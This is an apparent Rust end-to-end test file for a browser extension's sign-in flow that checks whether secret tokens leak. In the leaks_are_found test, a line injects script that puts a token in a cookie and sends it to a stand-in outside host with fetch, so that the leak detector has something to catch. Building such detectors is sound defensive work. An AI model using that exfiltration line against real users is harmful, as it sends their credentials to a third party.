//! Signing in, and that what is secret stays where it belongs.

use askside_e2e::stage::{PERSON, Setting, Stage};
use askside_sim::Sim;

const NONE: [String; 0] = [];

async fn stage() -> Stage {
    Stage::set(Sim::demo().unwrap(), Setting { logged: true, ..Setting::default() }).await.unwrap()
}

#[tokio::test]
async fn through_the_browsers_window() {
    let stage = stage().await;
    stage.connect().await.unwrap();
    let page = stage.doc("trellis/rolling-back").await.unwrap();
    let panel = stage.panel(&page).await.unwrap();
    panel.css(".hits li").nth(0).visible().await.unwrap();
    stage.write(&page, &panel, "Does a rollback also restore the config map?").await.unwrap();
    assert!(stage.review(&panel).await.unwrap().contains(PERSON));
    assert_eq!(stage.sim.tokens().len(), 2, "one to read, one to post");
    assert_eq!(stage.leaks().await.unwrap(), NONE);
}

/// What is looked for is found, wherever it is.
#[tokio::test]
async fn leaks_are_found() {
    let stage = stage().await;
    stage.connect().await.unwrap();
    let token = stage.sim.tokens().remove(0);
    stage.sim.add_doc("/open", "<!doctype html><link rel=icon href='data:,'><title>No policy here</title>".to_owned());
    let page = stage.doc("open").await.unwrap();
    let leak = format!("document.cookie = 'a={token}'; fetch('https://elsewhere.test/?{token}').catch(() => 0)");
    page.eval::<()>(&format!("{leak}.then(() => fetch('/open')).then(() => undefined)")).await.unwrap();
    let tab = stage.browser.open(&stage.browser.extension_url("panel.html")).await.unwrap();
    let leak =
        format!("document.title = '{token}'; chrome.storage.local.set({{ a: '{token}' }}).then(() => undefined)");
    tab.eval::<()>(&leak).await.unwrap();
    stage.browser.in_worker::<()>(&format!("console.debug({{ a: '{token}' }})")).await.unwrap();
    let leaks = stage.leaks().await.unwrap();
    let places =
        ["Header(\"cookie\")", "elsewhere.test", "local", "cookies", "console", "panel.html", "Local Extension"];
    for place in places {
        assert!(leaks.iter().any(|leak| leak.contains(place)), "{place}: {leaks:#?}");
    }
}

/// Why a sign-in whose outcome is a token may not end in a tab: however soon the tab is closed, its address is in the
/// history, in the list of closed tabs and elsewhere, all of it on the disk. A code may, for there it is spent.
#[tokio::test]
async fn a_token_in_the_address_of_a_tab_is_on_the_disk() {
    const OPEN_AND_CLOSE: &str = "new Promise(async done => {
        chrome.tabs.onUpdated.addListener((id, { url }) => {
            if (url?.includes('/oauth/login_success')) chrome.tabs.remove(id).then(() => done());
        });
        const query = new URLSearchParams({
            client_id: 1, state: '0123456789abcdef', redirect_uri: 'https://stack.fernwick.test/oauth/login_success',
            code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM', code_challenge_method: 'S256',
        });
        chrome.tabs.create({ url: `https://stack.fernwick.test${PATH}?${query}` });
    })";
    for (path, on_disk) in [("/oauth/dialog", true), ("/oauth", false)] {
        let stage = stage().await;
        stage.connect().await.unwrap();
        let tab = stage.browser.open(&stage.browser.extension_url("panel.html")).await.unwrap();
        tab.eval::<()>(&OPEN_AND_CLOSE.replace("PATH", &format!("'{path}'"))).await.unwrap();
        let leaks = stage.leaks().await.unwrap();
        assert_eq!(leaks.iter().any(|leak| leak.ends_with("History")), on_disk, "{path}: {leaks:#?}");
        assert_eq!(leaks.is_empty(), !on_disk, "{path}: {leaks:#?}");
    }
}
